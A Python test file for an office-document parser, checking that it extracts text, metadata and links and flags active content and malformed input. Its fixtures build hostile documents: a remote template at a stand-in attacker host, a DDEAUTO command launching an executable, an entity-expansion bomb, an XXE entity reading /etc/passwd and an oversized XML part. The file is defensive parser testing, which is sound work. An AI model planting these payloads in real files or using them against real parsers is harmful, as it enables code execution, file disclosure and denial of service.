"""Office documents: properties, text, links, active content and the files in them; damage and bombs."""

from datetime import UTC, datetime
from io import BytesIO

import pytest
from docx import Document

from comity.parsers.contract import Child, Defect, Rows, Source
from comity.parsers.office_document import PARSER
from document_factory import office as package

TYPES = {"[Content_Types].xml": "<Types/>"}
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def source(data: bytes) -> Source:
    return Source(stream=BytesIO(data), size=len(data), name="a.docx")


def read(data: bytes) -> tuple[list[dict], list[Child], list[Defect]]:
    items = list(PARSER.read(source(data), inferred=()))
    rows = [row for item in items if isinstance(item, Rows) for row in item.batch.to_pylist()]
    return rows, [item for item in items if isinstance(item, Child)], [item for item in items if isinstance(item, Defect)]


def test_a_word_document_made_by_another_library() -> None:
    document = Document()
    document.core_properties.author = "Eve"
    document.core_properties.created = datetime(2020, 1, 1, 12)  # noqa: DTZ001 - the library wants it without
    document.add_paragraph("Pay to DE89370400440532013000")
    table = document.add_table(rows=1, cols=2)
    table.cell(0, 0).text, table.cell(0, 1).text = "left", "right"
    out = BytesIO()
    document.save(out)
    assert PARSER.recognizes(out.getvalue()[:65536], name="x") == 3
    [row], _, defects = read(out.getvalue())
    assert not defects
    assert row["creator"] == "Eve"
    assert row["created"] == datetime(2020, 1, 1, 12, tzinfo=UTC)
    assert "Pay to DE89370400440532013000\n" in row["text"]
    assert "left" in row["text"]
    assert "right" in row["text"]
    assert row["text.length"] >= len(row["text"])


def test_active_content_and_links() -> None:
    relations = (
        '<Relationships xmlns="r"><Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
        '<Relationship Type="x/hyperlink" Target="https://login.example/" TargetMode="External"/></Relationships>'
    )
    body = f'<w:document xmlns:w="{WORD}"><w:p><w:instrText> DDEAUTO c:\\\\a.exe</w:instrText><w:delText>taken out</w:delText></w:p></w:document>'
    data = package(
        {
            **TYPES,
            "word/document.xml": body,
            "word/_rels/document.xml.rels": relations,
            "word/vbaProject.bin": b"macro",
            "word/embeddings/a.bin": b"x",
        }
    )
    [row], children, defects = read(data)
    assert not defects
    assert row["active"] == ["dde", "embedded_object", "external_template", "macro"]
    assert row["links"] == ["https://evil.example/t.dotm", "https://login.example/"]
    assert "taken out" in row["text"]
    assert [child.name for child in children] == ["vbaProject.bin", "a.bin"]
    for child in children:
        assert child.stream.read() == PARSER.extract(source(data), step=child.step).read()
        assert 0 <= child.offset < child.offset + child.length <= len(data)


def test_a_workbook_has_its_words_and_numbers_once() -> None:
    sheet = '<worksheet xmlns="a"><sheetData><row><c t="s"><v>1</v></c><c><v>12345678</v></c></row></sheetData></worksheet>'
    data = package(
        {**TYPES, "xl/sharedStrings.xml": '<sst xmlns="a"><si><t>one</t></si><si><t>two</t></si></sst>', "xl/worksheets/sheet1.xml": sheet}
    )
    [row], _, _ = read(data)
    assert row["text"].split() == ["one", "two", "12345678"]
    assert row["pages"] == 1


def test_an_open_document() -> None:
    content = (
        '<office:document-content xmlns:office="o" xmlns:text="t" xmlns:xlink="x"><office:body><text:p>Hello <text:a xlink:href="https://a.example/">'
        "link</text:a> tail</text:p><text:p>two</text:p></office:body></office:document-content>"
    )
    meta = '<m xmlns:meta="m" xmlns:dc="d"><meta:initial-creator>Eve</meta:initial-creator><dc:date>2020-01-01T00:00:00Z</dc:date></m>'
    data = package({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content, "meta.xml": meta})
    assert PARSER.recognizes(data, name="x") == 3
    [row], _, _ = read(data)
    assert row["text"] == "Hello link tail\ntwo"
    assert row["links"] == ["https://a.example/"]
    assert row["creator"] == "Eve"
    assert row["modified"] == datetime(2020, 1, 1, tzinfo=UTC)


def test_entities_and_bombs() -> None:
    lol = '<!DOCTYPE w [<!ENTITY a "' + "x" * 1000 + '">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9)) + "]>"
    body = lol.replace("&a0;", "&a;") + f'<w:document xmlns:w="{WORD}"><w:p><w:t>before</w:t><w:t>&a8;</w:t></w:p></w:document>'
    [row], _, _ = read(package({**TYPES, "word/document.xml": body}))
    assert len(row["text"] or "") < 100
    outside = f'<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document xmlns:w="{WORD}"><w:t>&a;</w:t></w:document>'
    [row], _, _ = read(package({**TYPES, "word/document.xml": outside}))
    assert "root" not in (row["text"] or "")
    [row], _, [defect] = read(package({**TYPES, "word/document.xml": b"<a>" + b" " * (65 * 2**20)}))
    assert "more than the limits allow" in defect.reason


@pytest.mark.parametrize("step", [7, 31])
def test_cut_files(step: int) -> None:
    data = package(
        {**TYPES, "word/document.xml": f'<w:document xmlns:w="{WORD}"><w:t>a</w:t></w:document>', "word/media/a.png": b"\x89PNG" * 50}
    )
    for size in range(0, len(data), step):
        rows, _, defects = read(data[:size])
        assert rows or defects
    read(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600)
    read(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 6000)
